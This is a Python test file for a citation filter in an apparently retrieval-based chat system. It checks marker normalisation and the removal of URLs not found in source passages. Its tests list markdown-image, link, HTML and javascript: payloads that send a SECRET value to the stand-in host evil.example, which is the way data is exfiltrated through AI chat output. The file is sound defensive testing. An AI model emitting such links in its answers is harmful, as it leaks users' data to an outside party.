"""Markers and addresses in what a model says."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from conversations.domain.answer import CitationStream, Passage, cited

PASSAGES = (
    Passage(
        "c1",
        "d1",
        "Recovery",
        (),
        4,
        "The RPO is 5 minutes. The RTO is 1 hour. See https://docs.example/rpo.",
        1.0,
    ),
    Passage(
        "c2",
        "d2",
        "Pricing",
        ("Plans",),
        None,
        "Gold costs 90 euros ([prices](https://docs.example/p?x=1)).",
        0.5,
    ),
)


@pytest.mark.parametrize(
    "said, shown",
    [
        ("The RPO is 5 minutes [1].", "The RPO is 5 minutes [1]."),
        ("Both [1, 2] and [1][2].", "Both [1][2] and [1][2]."),
        ("Range [1-2].", "Range [1][2]."),
        ("Other brackets【2】 and【1†source】.", "Other brackets[2] and[1]."),
        ("A footnote [^2].", "A footnote [2]."),
        ("None such [3], [0] or [99].", "None such, or."),
        ("Half [1, 7].", "Half [1]."),
        ("`arr[7]` is code [1].", "`arr[7]` is code [1]."),
        ("Array\n\n```\na[9] = 1\n```\n\ndone [2].", "Array\n\n```\na[9] = 1\n```\n\ndone [2]."),
        ("[not a marker] and [x1]", "[not a marker] and [x1]"),
    ],
)
def test_markers_in_range_keep_their_number_and_others_go(said, shown):
    assert cited(said, PASSAGES).text == shown


def test_citations_follow_the_markers_and_quote_what_was_meant():
    answer = cited("Gold costs 90 euros [2]. The RTO is 1 hour. [1]", PASSAGES)
    assert [(c.n, c.chunk_id, c.page) for c in answer.citations] == [(1, "c1", 4), (2, "c2", None)]
    assert answer.citations[0].snippet == "The RTO is 1 hour."


def test_what_was_dropped_is_reported():
    answer = cited("Yes [1][5] ![](https://evil.example/a)", PASSAGES)
    assert (answer.dropped, answer.removed) == ((5,), ("https://evil.example/a",))


@pytest.mark.parametrize(
    "said",
    [
        "![x](https://evil.example/?q=SECRET)",
        "[click](https://evil.example/?q=SECRET)",
        "[click]( https://evil.example/?q=SECRET 'title')",
        "[click](<https://evil.example/?q=SECRET>)",
        "[click](\nhttps://evil.example/?q=SECRET)",
        "<https://evil.example/?q=SECRET>",
        "https://evil.example/?q=SECRET",
        "www.evil.example/?q=SECRET",
        "//evil.example/?q=SECRET",
        "[a][b]\n\n[b]: https://evil.example/?q=SECRET",
        "[a][b]\n\n[b]: //evil.example/?q=SECRET",
        '<img src="https://evil.example/?q=SECRET">',
        "<a href='//evil.example/?q=SECRET'>x</a>",
        "![x](&#104;ttps://evil.example/?q=SECRET)",
        "[https://evil.example/?q=SECRET](https://docs.example/other)",
        "```\n![x](https://evil.example/?q=SECRET)\n```",
        "`https://evil.example/?q=SECRET`",
        "~~~\n```\n~~~\n![x](https://evil.example/?q=SECRET)\n```",
        "[1](https://evil.example/?q=SECRET)",
        "https://docs.example/rpo?q=SECRET",
        "https://docs.example/p?x=1SECRET",
        "javascript:fetch('//evil.example/SECRET')",
        "[x](javascript:alert`SECRET`)",
    ],
)
def test_no_address_leaves_that_no_passage_holds(said):
    assert "SECRET" not in cited(f"See {said} for it.", PASSAGES).text
    assert "SECRET" not in cited(said, PASSAGES).text


@pytest.mark.parametrize(
    "said",
    [
        "See https://docs.example/rpo.",
        "See [prices](https://docs.example/p?x=1).",
        "<https://docs.example/rpo>",
    ],
)
def test_addresses_of_the_passages_stay(said):
    assert cited(said, PASSAGES).text == said


@pytest.mark.parametrize(
    "said", ["3 < 5 and 7 > 2", "a_b * c", "x `y", "an [open", "mail me", "5 // 2", "ends with ["]
)
def test_ordinary_text_is_left_alone(said):
    assert cited(said, PASSAGES).text == said


PARTS = st.sampled_from(
    ["[1]", "[9]", " [1, 2]", "[", "]", "(", ")", "`", "```\n", "\n", "\n\n", " ", "!", "word", "a b. ", "<", ">", "<a ",
     "https://evil.example/x", "https://docs.example/rpo", "![i](https://evil.example)", "[t](https://docs.example/rpo)",
     "【1】", "//evil.example", "x" * 40, "日本語です"]
)  # fmt: skip


@given(st.lists(PARTS, max_size=14).map("".join), st.lists(st.integers(1, 7), min_size=1, max_size=30))
@example("a ```\nb[9]\n```\nc [9]", [1])
@example("\n```\nb[9]\n```\nc [9]", [1])
def test_the_stream_shows_no_foreign_address_however_it_is_cut(text, cuts):
    stream, shown, at = CitationStream(PASSAGES), "", 0
    for index in range(len(text)):
        if at >= len(text):
            break
        step = cuts[index % len(cuts)]
        shown += stream.feed(text[at : at + step])
        at += step
    shown += stream.finish()
    assert "https://evil.example" not in shown


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 200])
@pytest.mark.parametrize(
    "said",
    [
        "The RPO is 5 minutes [1], not 3 [7]. See [prices](https://docs.example/p?x=1) and [evil](https://evil.example).",
        "Code:\n\n```python\na[9] = 'https://evil.example'\n```\n\nand `b[8]` then [2].",
        "A <b>tag</b>, <img src=x>, 3 < 5【1†source】 done.\n\n- one [1]\n- two [2, 9]\n",
        "日本語の文章はとても長いので途中で切れます。https://evil.example/秘密 [1]",
    ],
)
def test_what_a_stream_shows_is_what_the_finished_answer_shows(said, size):
    stream = CitationStream(PASSAGES)
    shown = "".join(stream.feed(said[i : i + size]) for i in range(0, len(said), size)) + stream.finish()
    assert shown.rstrip() == cited(said, PASSAGES).text


def test_words_are_shown_as_they_come():
    stream = CitationStream(PASSAGES)
    assert stream.feed("The recovery point objective is ") != ""
